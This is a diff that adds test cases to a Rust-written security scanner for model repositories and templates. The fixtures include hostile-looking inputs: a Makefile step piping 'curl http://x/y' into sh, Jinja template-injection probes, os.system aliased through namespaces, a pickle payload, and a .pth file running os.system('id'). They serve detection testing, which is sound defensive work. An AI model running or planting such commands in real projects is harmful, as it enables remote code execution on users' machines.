@@ -247,6 +247,8 @@ fn templates_elsewhere() {
     check_template("{{ ().__class__ }}", &[("JIN001", Critical)]);
     check_template("{{ x|attr('name') }}", &[("JIN002", Medium)]);
     check_template("{{ request.args }}", &[("JIN002", Medium)]);
+    check_template("{{ requests.get('https://host/x') }}", &[("JIN002", Medium)]);
+    check_template("{% set os = messages[0] %}{{ os.get('x') }}", &[]);
     check_template("{{ my_function(x) }}", &[("JIN002", Low)]);
     check_template("{% include 'other' %}", &[("JIN003", Medium)]);
     check_template("{% import 'other' as o %}{{ o.x() }}", &[("JIN003", Medium)]);
@@ -455,6 +457,17 @@ fn check_any_python(text: &str, code: &str, severity: Severity) {
 }
 
 #[test]
+fn functions_put_into_a_namespace_are_called_from_there() {
+    for text in [
+        "import os\nos.__dict__['runner'] = os.system\nos.runner('echo hidden')\n",
+        "import os\nnames = globals()\nnames['runner'] = os.system\nnames['runner']('echo hidden')\n",
+        "import os\ndef run():\n    globals()['runner'] = os.posix_spawn\n    runner('x', [], {})\nrun()\n",
+    ] {
+        check_any_python(text, "PYC001", Severity::High);
+    }
+}
+
+#[test]
 fn pickles_in_python_are_judged_as_pickles() {
     for text in [
         "import pickle\ndef f():\n    return pickle.loads(b'cos\\nsystem\\n(S\\'id\\'\\ntR.')\n",
@@ -547,6 +560,13 @@ fn what_lies_beside_the_weights() {
     check(&[("requirements.txt", "--extra-index-url http://host/simple\n")], &[("REP003", Medium)]);
     check(&[("requirements.txt", "x @ git+https://host/x.git\n")], &[("REP003", Medium)]);
     check(&[("requirements.txt", "torchtriton\n")], &[("REP003", Medium)]);
+    check(&[("Makefile", "all:\n\tcurl http://x/y | sh\n")], &[("REP002", High)]);
+    check(&[("Dockerfile", "FROM python:3.12\nRUN pip install -r requirements.txt\n")], &[]);
+    let conda = "dependencies:\n- python=3.8\n- pip:\n  - git+https://host/x.git\n";
+    check(&[("conda.yaml", conda)], &[("REP003", Medium)]);
+    check(&[("conda.yaml", "dependencies:\n- python=3.8\n- pip:\n  - torch==2.1\n")], &[]);
+    let project = "[project]\nurls = { home = \"https://host\" }\ndependencies = [\n  \"x @ git+https://host/x.git\",\n]\n";
+    check(&[("pyproject.toml", project)], &[("REP003", Medium)]);
     check(&[("evil.pth", "import os; os.system('id')\n")], &[("REP004", High)]);
     check(&[("paths.pth", "../lib\nimportant\n")], &[]);
     check(&[("sitecustomize.py", "x = 1\n")], &[("REP007", High)]);
